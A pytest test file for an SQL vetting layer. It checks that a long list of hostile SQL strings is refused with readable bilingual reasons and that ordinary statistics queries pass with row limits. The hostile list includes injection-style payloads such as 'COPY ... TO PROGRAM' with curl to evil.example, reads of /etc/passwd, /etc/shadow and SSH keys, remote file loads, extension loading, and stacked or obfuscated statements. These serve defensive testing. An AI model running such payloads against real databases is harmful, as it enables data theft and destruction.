"""SQL vetting: hostile SQL is refused with reasons a citizen can read; statistics queries pass, bounded."""

import pytest
from pydantic import ValidationError

from agent.executor import run_query
from agent.vetting import CHECKS, MAX_SQL_CHARS, TEXT_CHECKS, SqlRefused, VettedSql, is_sealed, vet

ALL = ("duckdb", "postgresql", "sqlite")
DUCKDB, POSTGRES, SQLITE = ("duckdb",), ("postgresql",), ("sqlite",)

HOSTILE: list[tuple[str, tuple[str, ...]]] = [
    # writes and schema changes
    ("DELETE FROM observation", ALL),
    ("UPDATE observation SET value = 0", ALL),
    ("INSERT INTO area (code, kind, name_es, name_en) VALUES ('X', 'country', 'X', 'X')", ALL),
    ("INSERT INTO observation SELECT * FROM observation", ALL),
    ("MERGE INTO area USING area AS b ON area.code = b.code WHEN MATCHED THEN DELETE", POSTGRES),
    ("DROP TABLE observation", ALL),
    ("DROP VIEW coverage", ALL),
    ("CREATE TABLE stolen AS SELECT * FROM observation", ALL),
    ("CREATE VIEW v AS SELECT 1", ALL),
    ("ALTER TABLE observation ADD COLUMN x INT", ALL),
    ("ALTER TABLE area RENAME TO zone", ALL),
    ("TRUNCATE observation", DUCKDB + POSTGRES),
    ("REPLACE INTO area VALUES ('X', 'country', 'X', 'X')", SQLITE),
    ("INSERT OR REPLACE INTO area (code) VALUES ('X')", SQLITE),
    ("SELECT * INTO stolen FROM observation", DUCKDB + POSTGRES),
    ("WITH x AS (DELETE FROM observation RETURNING *) SELECT * FROM x", DUCKDB + POSTGRES),
    ("WITH x AS (UPDATE area SET name_es = 'x' RETURNING code) SELECT code FROM x", POSTGRES),
    ("SELECT * FROM observation FOR UPDATE", POSTGRES),
    ("LOCK TABLE observation", POSTGRES),
    # more than one statement, hidden or not
    ("SELECT 1; DROP TABLE observation", ALL),
    ("SELECT value FROM observation; DELETE FROM observation", ALL),
    ("SELECT 1 /* harmless */; DROP TABLE observation --", ALL),
    ("SELECT 1; -- comment\nDELETE FROM observation", ALL),
    ("/* SELECT 1 */ DROP TABLE observation", ALL),
    ("-- SELECT 1\nDELETE FROM area", ALL),
    ("", ALL),
    ("   ;  ", ALL),
    # engine commands and sessions
    ("PRAGMA database_list", DUCKDB + SQLITE),
    ("PRAGMA writable_schema = 1", SQLITE),
    ("ATTACH '/tmp/other.db' AS other", DUCKDB + SQLITE),
    ("ATTACH DATABASE '/tmp/other.db' AS other", SQLITE),
    ("DETACH other", DUCKDB + SQLITE),
    ("COPY observation TO '/tmp/observation.csv'", DUCKDB + POSTGRES),
    ("COPY (SELECT * FROM observation) TO '/tmp/x.parquet' (FORMAT parquet)", DUCKDB),
    ("COPY observation FROM '/tmp/evil.csv'", DUCKDB + POSTGRES),
    ("COPY observation TO PROGRAM 'curl http://evil.example'", POSTGRES),
    ("INSTALL httpfs", DUCKDB),
    ("LOAD httpfs", DUCKDB),
    ("SET threads = 1", DUCKDB + POSTGRES),
    ("SET enable_external_access = true", DUCKDB),
    ("RESET ALL", POSTGRES),
    ("CALL pragma_version()", DUCKDB),
    ("EXPORT DATABASE '/tmp/dump'", DUCKDB),
    ("IMPORT DATABASE '/tmp/dump'", DUCKDB),
    ("VACUUM", ALL),
    ("VACUUM INTO '/tmp/copy.db'", SQLITE),
    ("CHECKPOINT", DUCKDB),
    ("GRANT ALL ON observation TO PUBLIC", POSTGRES),
    ("REVOKE SELECT ON observation FROM PUBLIC", POSTGRES),
    ("BEGIN", ALL),
    ("COMMIT", ALL),
    ("USE memory", DUCKDB),
    ("DESCRIBE observation", DUCKDB),
    ("SHOW TABLES", DUCKDB),
    ("SUMMARIZE observation", DUCKDB),
    ("EXPLAIN ANALYZE DELETE FROM observation", POSTGRES),
    ("DO $$ BEGIN DELETE FROM observation; END $$", POSTGRES),
    ("PREPARE p AS DELETE FROM observation", POSTGRES),
    ("EXECUTE p", POSTGRES),
    ("VALUES (1)", ALL),
    # files and network
    ("SELECT * FROM read_csv('/etc/passwd')", DUCKDB),
    ("SELECT * FROM read_csv_auto('/etc/passwd')", DUCKDB),
    ("SELECT * FROM read_parquet('http://evil.example/x.parquet')", DUCKDB),
    ("SELECT * FROM read_json('https://evil.example/x.json')", DUCKDB),
    ("SELECT * FROM read_text('/etc/shadow')", DUCKDB),
    ("SELECT * FROM read_blob('/root/.ssh/id_rsa')", DUCKDB),
    ("SELECT * FROM glob('/home/*')", DUCKDB),
    ("SELECT * FROM '/etc/passwd'", DUCKDB),
    ("SELECT * FROM 's3://bucket/data.parquet'", DUCKDB),
    ("SELECT * FROM parquet_scan('x.parquet')", DUCKDB),
    ("SELECT * FROM sqlite_scan('/tmp/x.db', 't')", DUCKDB),
    ("SELECT * FROM query('DELETE FROM observation')", DUCKDB),
    ("SELECT pg_read_file('/etc/passwd')", POSTGRES),
    ("SELECT * FROM pg_ls_dir('/')", POSTGRES),
    ("SELECT lo_import('/etc/passwd')", POSTGRES),
    ("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", POSTGRES),
    ("SELECT load_extension('/tmp/evil.so')", SQLITE),
    ("SELECT readfile('/etc/passwd')", SQLITE),
    ("SELECT writefile('/tmp/x', 'y')", SQLITE),
    ("SELECT code FROM area WHERE code IN (SELECT column0 FROM read_csv('/etc/passwd'))", DUCKDB),
    # system catalogs, settings and functions
    ("SELECT * FROM information_schema.tables", ALL),
    ("SELECT * FROM pg_catalog.pg_tables", POSTGRES),
    ("SELECT * FROM pg_shadow", POSTGRES),
    ("SELECT * FROM sqlite_master", ALL),
    ("SELECT sql FROM sqlite_schema", SQLITE),
    ("SELECT * FROM duckdb_tables()", DUCKDB),
    ("SELECT * FROM duckdb_settings()", DUCKDB),
    ("SELECT * FROM pragma_table_info('observation')", DUCKDB + SQLITE),
    ("SELECT current_setting('data_directory')", DUCKDB + POSTGRES),
    ("SELECT set_config('default_transaction_read_only', 'off', false)", POSTGRES),
    ("SELECT getenv('HOME')", DUCKDB),
    ("SELECT pg_sleep(60)", POSTGRES),
    ("SELECT code FROM area UNION SELECT table_name FROM information_schema.tables", ALL),
    ("SELECT code FROM area UNION ALL SELECT name FROM sqlite_master", SQLITE),
    ("SELECT code FROM area WHERE EXISTS (SELECT 1 FROM pg_catalog.pg_user)", POSTGRES),
    # casts to object-identifier types name system tables, roles and functions; any qualified name
    ("SELECT CAST(CAST(1259 + row_number() OVER () - 1 AS INT) AS regclass) FROM area LIMIT 3", ALL),
    ("SELECT code::regclass FROM area", ALL),
    ("SELECT 'pg_authid'::regclass::oid FROM area", ALL),
    ("SELECT regclass 'pg_authid' FROM area", POSTGRES),
    ("SELECT CAST(10 AS regrole) FROM area", ALL),
    ("SELECT CAST(1 AS regproc) FROM area", ALL),
    ("SELECT CAST(1 AS regprocedure) FROM area", ALL),
    ("SELECT CAST(11 AS regnamespace) FROM area", ALL),
    ("SELECT CAST(23 AS regtype) FROM area", ALL),
    ("SELECT CAST(1 AS regoper) FROM area", ALL),
    ("SELECT CAST(1 AS regconfig) FROM area", ALL),
    ("SELECT CAST(code AS \"regclass\") FROM area", ALL),
    ("SELECT CAST(code AS pg_catalog.regclass) FROM area", ALL),
    ("SELECT TRY_CAST(code AS regclass) FROM area", DUCKDB),
    ("SELECT CAST(code AS oid) FROM area", ALL),
    ("SELECT CAST(code AS BLOB) FROM area", ALL),
    ("SELECT pg_catalog.lower(code) FROM area", ALL),
    ("SELECT pg_catalog.format('%s', code) FROM area", ALL),
    ("SELECT version() FROM area", ALL),
    ("SELECT user AS user FROM area", ALL),
    ("SELECT current_user FROM area", ALL),
    ("SELECT current_schema AS current_schema FROM area", ALL),
    ("SELECT tableoid AS tableoid, ctid AS ctid FROM area", POSTGRES),
    ("SELECT rowid AS rowid FROM area", ALL),
    # text built to any size
    ("SELECT lpad('x', 1000000, 'y') FROM area", ALL),
    ("SELECT rpad(code, 100000000, 'y') FROM area", ALL),
    ("SELECT lpad(code, CAST(value AS INT), 'y') FROM observation", ALL),
    ("SELECT printf('%0999999999d', 1) FROM area", ALL),
    ("SELECT printf('%*d', 1000000000, 1) FROM area", ALL),
    ("SELECT CAST(code AS CHAR(10000000)) FROM area", POSTGRES + SQLITE),
    ("SELECT replace(name_en, 'a', name_en || name_en) FROM area", ALL),
    ("SELECT regexp_replace(name_en, '', '" + "x" * 200 + "', 'g') FROM area", DUCKDB + POSTGRES),
    # functions outside the allow-list, functions in FROM
    ("SELECT * FROM generate_series(1, 1000000000)", DUCKDB + POSTGRES),
    ("SELECT * FROM range(1000000000)", DUCKDB),
    ("SELECT * FROM unnest([1, 2, 3])", DUCKDB),
    ("SELECT nextval('some_sequence')", DUCKDB + POSTGRES),
    ("SELECT query_to_xml('DELETE FROM observation', true, true, '')", POSTGRES),
    ("SELECT repeat('x', 1000000000)", ALL),
    ("SELECT md5(code) FROM area", DUCKDB + POSTGRES),
    ("SELECT sqlite_version()", SQLITE),
    # unknown tables and columns
    ("SELECT * FROM users", ALL),
    ("SELECT * FROM main.observation", DUCKDB + SQLITE),
    ("SELECT * FROM public.observation", POSTGRES),
    ("SELECT * FROM other.main.observation", DUCKDB),
    ("SELECT password FROM observation", ALL),
    ("SELECT rowid FROM observation", DUCKDB + SQLITE),
    ("SELECT ctid, xmin FROM observation", POSTGRES),
    ("SELECT x.value FROM observation o", ALL),
    ("WITH secret AS (SELECT * FROM secret) SELECT * FROM secret", ALL),
    # unbounded or unreadable limits, recursion
    ("SELECT * FROM observation LIMIT ALL", POSTGRES),
    ("SELECT * FROM observation LIMIT (SELECT COUNT(*) FROM observation)", ALL),
    ("SELECT * FROM observation LIMIT 10 PERCENT", DUCKDB),
    ("SELECT * FROM observation FETCH FIRST 5 ROWS WITH TIES", POSTGRES),
    ("WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT n FROM t", ALL),
    # not SQL
    ("DROP TABLE observation CASCADE; --", ALL),
    ("SELECT * FROM observation WHERE", ALL),
    ("SELECT 'unterminated FROM observation", ALL),
]

CASES = [pytest.param(sql, dialect, id=f"{dialect}:{sql[:60]}") for sql, dialects in HOSTILE for dialect in dialects]
CHECK_NAMES = {"parses", "one_statement", "nesting"} | {check.__name__ for check in (*TEXT_CHECKS, *CHECKS)}


def test_there_are_many_hostile_strings():
    assert len(HOSTILE) >= 60 and len(CASES) >= 120


@pytest.mark.parametrize(("sql", "dialect"), CASES)
def test_hostile_sql_is_refused_with_readable_reasons(sql, dialect):
    with pytest.raises(SqlRefused) as refused:
        vet(sql, dialect)
    assert refused.value.check in CHECK_NAMES
    for reason in (refused.value.reason_es, refused.value.reason_en):
        assert reason.strip() and "Traceback" not in reason and "sqlglot" not in reason


@pytest.mark.parametrize(
    ("sql", "check"),
    [
        ("SELECT 1; DROP TABLE observation", "one_statement"),
        ("DROP TABLE observation", "select_only"),
        ("WITH x AS (DELETE FROM observation RETURNING *) SELECT * FROM x", "no_writes"),
        ("SELECT * INTO stolen FROM observation", "no_select_into"),
        ("SELECT * FROM read_csv('/etc/passwd')", "no_files_or_network"),
        ("SELECT * FROM information_schema.tables", "no_system_catalogs"),
        ("SELECT md5(code) FROM area", "allowed_functions"),
        ("SELECT CAST(code AS regclass) FROM area", "allowed_types"),
        ("SELECT lpad('x', 1000000, 'y') FROM area", "bounded_text"),
        ("SELECT code FROM area WHERE code = 'CHL\x00'", "plain_text"),
        ("SELECT code FROM area" + " " * MAX_SQL_CHARS, "short_text"),
        ("SELECT " + "(" * 3000 + "1" + ")" * 3000 + " FROM area", "nesting"),
        ("SELECT * FROM users", "allowed_tables"),
        ("SELECT password FROM observation", "known_columns"),
        ("SELECT * FROM observation WHERE", "parses"),
    ],
)
def test_each_layer_names_itself(sql, check):
    with pytest.raises(SqlRefused) as refused:
        vet(sql, "duckdb")
    assert refused.value.check == check


PATHOLOGICAL = [
    "SELECT " + "(" * 3000 + "1" + ")" * 3000 + " FROM area",
    "SELECT code FROM area WHERE " + "NOT " * 2000 + "code = 'CHL'",
    "SELECT " + "- " * 3000 + "1 FROM area",
    "SELECT " + "ABS(" * 1500 + "1" + ")" * 1500 + " FROM area",
    "SELECT code FROM " + "(SELECT code FROM " * 400 + "area" + ") AS t" * 400,
    "SELECT '" + "x" * 10_000_000 + "' FROM area",
    "SELECT code FROM area WHERE code = '\ud800'",
    "SELECT code FROM area -- \u202e;aera ELBAT PORD",
    "DR\u200bOP TABLE area",
    "SHOW ALL",
]


@pytest.mark.parametrize("dialect", ALL)
@pytest.mark.parametrize("sql", PATHOLOGICAL, ids=[f"pathological{index}" for index in range(len(PATHOLOGICAL))])
def test_any_input_gets_a_readable_refusal(sql, dialect):
    """Deep nesting, huge text, broken Unicode and parser slips end as SqlRefused, never another exception."""
    with pytest.raises(SqlRefused) as refused:
        vet(sql, dialect)
    assert refused.value.check in CHECK_NAMES
    assert refused.value.reason_es.strip() and refused.value.reason_en.strip()


def test_reasons_name_the_unknown_table_and_column():
    with pytest.raises(SqlRefused, match="users"):
        vet("SELECT * FROM users", "duckdb")
    with pytest.raises(SqlRefused) as refused:
        vet("SELECT gdp FROM observation", "duckdb")
    assert "gdp" in refused.value.reason_es and "gdp" in refused.value.reason_en


GOOD = [
    (
        "SELECT o.year, o.value FROM observation o WHERE o.indicator_code = 'NY.GDP.PCAP.CD' "
        "AND o.area_code = 'CHL' AND o.year BETWEEN 2015 AND 2020 ORDER BY o.year",
        ["observation"],
    ),
    (
        "SELECT a.name_es, o.value FROM observation o JOIN area a ON a.code = o.area_code "
        "JOIN area_membership m ON m.member_code = o.area_code WHERE m.group_code = 'G-OECD' "
        "AND o.indicator_code = 'NY.GDP.PCAP.CD' AND o.year = 2020 ORDER BY o.value DESC LIMIT 10",
        ["area", "area_membership", "observation"],
    ),
    (
        "WITH latest AS (SELECT area_code, MAX(year) AS last_year FROM observation "
        "WHERE indicator_code = 'SP.POP.TOTL' GROUP BY area_code) "
        "SELECT l.area_code, o.value FROM latest l JOIN observation o "
        "ON o.area_code = l.area_code AND o.year = l.last_year AND o.indicator_code = 'SP.POP.TOTL'",
        ["observation"],
    ),
    (
        "SELECT area_code, year, value - LAG(value) OVER (PARTITION BY area_code ORDER BY year) AS change, "
        "RANK() OVER (PARTITION BY year ORDER BY value DESC) AS position "
        "FROM observation WHERE indicator_code = 'SL.UEM.TOTL.ZS' AND area_code IN ('CHL', 'PER')",
        ["observation"],
    ),
    (
        "SELECT year, COUNT(*) AS n, ROUND(AVG(value), 2) AS mean, MIN(value), MAX(value), SUM(value) "
        "FROM observation WHERE indicator_code = 'NY.GDP.PCAP.CD' GROUP BY year HAVING COUNT(*) > 10 ORDER BY year",
        ["observation"],
    ),
    (
        "SELECT area_name_es, period, value, publisher, license FROM observation_cited "
        "WHERE indicator_code = 'NY.GDP.PCAP.CD' AND area_code = 'CHL'",
        ["observation_cited"],
    ),
    ("SELECT first_period, last_period, observations FROM coverage WHERE area_code = 'CHL'", ["coverage"]),
    (
        "SELECT code, name_es FROM area WHERE kind = 'cl_region' "
        "UNION SELECT code, name_es FROM area WHERE code = 'CHL' ORDER BY code",
        ["area"],
    ),
    (
        "SELECT i.code, i.name_es, s.publisher FROM indicator i JOIN source s ON s.id = i.source_id "
        "WHERE i.family = 'gdp' AND (LOWER(i.name_es) LIKE '%pib%' OR i.curated)",
        ["indicator", "source"],
    ),
    (
        "SELECT a.code, (SELECT COUNT(*) FROM area_membership m WHERE m.group_code = a.code) AS members "
        "FROM area a WHERE EXISTS (SELECT 1 FROM area_membership m WHERE m.group_code = a.code)",
        ["area", "area_membership"],
    ),
    (
        "SELECT EXTRACT(YEAR FROM period_start) AS y, CAST(value AS INTEGER) AS whole, "
        "COALESCE(status, 'final'), CASE WHEN value > 0 THEN 'up' ELSE 'down' END AS direction "
        "FROM observation WHERE area_code = 'CL-05'",
        ["observation"],
    ),
    ("SELECT alias FROM area_alias WHERE UPPER(alias) = 'CHILE'", ["area_alias"]),
    ("SELECT t.c FROM (SELECT code AS c FROM area) AS t", ["area"]),
    (
        "SELECT LPAD(code, 8, '0') AS padded, CAST(year AS VARCHAR(4)) AS y, CAST(value AS DOUBLE) AS v, "
        "REPLACE(name_es, 'Región', 'R.') AS short, PRINTF('%.2f', value) AS shown, CAST(period_start AS DATE) "
        "FROM observation o JOIN area a ON a.code = o.area_code",
        ["area", "observation"],
    ),
]


@pytest.mark.parametrize("dialect", ALL)
@pytest.mark.parametrize(("sql", "tables"), GOOD, ids=[f"good{index}" for index in range(len(GOOD))])
def test_statistics_queries_pass(sql, tables, dialect):
    vetted = vet(sql, dialect)
    assert vetted.tables == tables
    assert vetted.dialect == dialect
    assert vetted.limit <= 1000
    assert is_sealed(vetted)


def test_limit_is_added_when_absent():
    vetted = vet("SELECT code FROM area", "duckdb", max_rows=50)
    assert vetted.sql == "SELECT code FROM area LIMIT 50"
    assert (vetted.limit, vetted.capped) == (50, True)


def test_larger_limit_is_lowered_and_smaller_kept():
    lowered = vet("SELECT code FROM area LIMIT 100000", "postgresql", max_rows=50)
    assert lowered.sql.endswith("LIMIT 50") and (lowered.limit, lowered.capped) == (50, True)
    kept = vet("SELECT code FROM area ORDER BY code LIMIT 7 OFFSET 3", "sqlite", max_rows=50)
    assert kept.sql.endswith("LIMIT 7 OFFSET 3") and (kept.limit, kept.capped) == (7, False)


def test_fetch_first_and_union_limits_are_enforced():
    fetch = vet("SELECT code FROM area FETCH FIRST 500 ROWS ONLY", "postgresql", max_rows=20)
    assert fetch.sql == "SELECT code FROM area LIMIT 20"
    union = vet("(SELECT code FROM area LIMIT 5000) UNION ALL (SELECT code FROM area)", "duckdb", max_rows=20)
    assert union.sql.endswith(") LIMIT 20") and union.limit == 20


def test_comments_are_not_passed_on():
    vetted = vet("SELECT code /* ; DROP TABLE area */ FROM area -- trailing", "duckdb")
    assert "DROP" not in vetted.sql and "--" not in vetted.sql


def test_vetted_sql_is_frozen_and_sealed():
    vetted = vet("SELECT code FROM area", "duckdb")
    with pytest.raises(ValidationError):
        vetted.sql = "DROP TABLE area"  # type: ignore[misc]
    assert not is_sealed(vetted.model_copy(update={"sql": "DROP TABLE area"}))
    assert not is_sealed(VettedSql(sql="DROP TABLE area", dialect="duckdb", tables=[], limit=1, capped=False))


def test_unknown_dialect_is_a_programming_error():
    with pytest.raises(ValueError):
        vet("SELECT 1", "oracle")


def test_hostile_strings_cannot_reach_the_database(built, engine):
    """Every hostile DuckDB string is refused, and none can be run another way: the data is unchanged."""
    _, report = built
    count = vet("SELECT COUNT(*) FROM observation", "duckdb")
    for sql, dialects in HOSTILE:
        if "duckdb" not in dialects:
            continue
        with pytest.raises(SqlRefused):
            vet(sql, "duckdb")
        with pytest.raises(TypeError):
            run_query(engine, sql)  # type: ignore[arg-type]
        with pytest.raises(ValueError):
            run_query(engine, VettedSql(sql=sql, dialect="duckdb", tables=[], limit=1, capped=False))
        with pytest.raises(ValueError):
            run_query(engine, count.model_copy(update={"sql": sql}))
    assert run_query(engine, count).rows == [[report.counts["observation"]]]
